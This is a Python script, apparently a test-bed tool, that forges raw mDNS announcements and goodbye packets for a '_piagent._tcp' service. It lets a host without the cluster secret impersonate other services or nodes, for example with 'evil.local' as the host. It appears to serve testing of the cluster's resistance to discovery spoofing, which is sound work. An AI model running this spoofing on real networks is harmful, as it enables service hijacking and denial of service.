#!/usr/bin/env python3
"""A host on the LAN without the cluster secret, speaking raw mDNS: it announces whatever services it likes
(PTR, SRV, TXT and, if asked, an A record for the SRV target), unsolicited, as multicast responses from port
5353, and can send goodbyes (TTL 0). No avahi: nothing probes, renames or defends anything, so the records go
out exactly as written (another service's name, a real node's host name, any address).

Library: announce(services), goodbye(services). CLI (run in the test bed's bridge namespace):

    mdns_forge.py --spec services.json [--repeat N] [--interval S] [--goodbye]

A service: {"name": "master-000000", "host": "evil.local", "port": 9470, "txt": ["v=2", ...],
            "addr": "10.77.0.1" (optional: also announce host's A record)}
"""

import argparse
import json
import socket
import struct
import sys
import time

MDNS_ADDR = "224.0.0.251"
MDNS_PORT = 5353
SERVICE_TYPE = "_piagent._tcp.local"
TYPE_A, TYPE_PTR, TYPE_TXT, TYPE_SRV = 1, 12, 16, 33
CLASS_IN, CACHE_FLUSH = 1, 0x8000


def name_bytes(name):
    """A domain name without compression: each label with its length byte (instance names may hold spaces,
    dots are label separators only in the type and host parts)."""
    out = b""
    for label in name:
        data = label.encode()
        if not 0 < len(data) < 64:
            raise ValueError(f"bad label {label!r}")
        out += bytes([len(data)]) + data
    return out + b"\x00"


def labels(dotted):
    return [p for p in dotted.rstrip(".").split(".") if p]


def record(owner, rtype, rclass, ttl, rdata):
    return name_bytes(owner) + struct.pack("!HHIH", rtype, rclass, ttl, len(rdata)) + rdata


def txt_rdata(items):
    out = b""
    for item in items:
        data = item.encode() if isinstance(item, str) else item
        if len(data) > 255:
            raise ValueError("TXT item longer than 255 bytes")
        out += bytes([len(data)]) + data
    return out or b"\x00"


def packet(service, ttl):
    """One unsolicited response announcing service (ttl 0: goodbye)."""
    instance = [service["name"]] + labels(SERVICE_TYPE)
    host = labels(service["host"])
    answers = [
        record(labels(SERVICE_TYPE), TYPE_PTR, CLASS_IN, ttl, name_bytes(instance)),
        record(instance, TYPE_SRV, CLASS_IN | CACHE_FLUSH, ttl,
               struct.pack("!HHH", 0, 0, service.get("port", 9470)) + name_bytes(host)),
        record(instance, TYPE_TXT, CLASS_IN | CACHE_FLUSH, ttl, txt_rdata(service.get("txt", []))),
    ]
    if service.get("addr"):
        answers.append(record(host, TYPE_A, CLASS_IN | CACHE_FLUSH, ttl, socket.inet_aton(service["addr"])))
    header = struct.pack("!HHHHHH", 0, 0x8400, 0, len(answers), 0, 0)  # response, authoritative
    return header + b"".join(answers)


def open_socket(source):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if hasattr(socket, "SO_REUSEPORT"):
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(source))
    s.bind((source, MDNS_PORT))  # responses come from port 5353, or avahi takes them for legacy unicast
    return s


def send(services, source, ttl=4500, pace=0.002):
    s = open_socket(source)
    try:
        for service in services:
            s.sendto(packet(service, ttl), (MDNS_ADDR, MDNS_PORT))
            time.sleep(pace)
    finally:
        s.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--spec", required=True, help="JSON list of services")
    ap.add_argument("--source", default="10.77.0.1", help="the address to send from (this host's)")
    ap.add_argument("--repeat", type=int, default=1, help="rounds (0: until killed)")
    ap.add_argument("--interval", type=float, default=3.0)
    ap.add_argument("--goodbye", action="store_true", help="send goodbyes (TTL 0) instead")
    args = ap.parse_args()
    with open(args.spec) as f:
        services = json.load(f)
    n = 0
    while True:
        send(services, args.source, ttl=0 if args.goodbye else 4500)
        n += 1
        if args.repeat and n >= args.repeat:
            break
        time.sleep(args.interval)
    print(f"sent {len(services)} services x {n}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
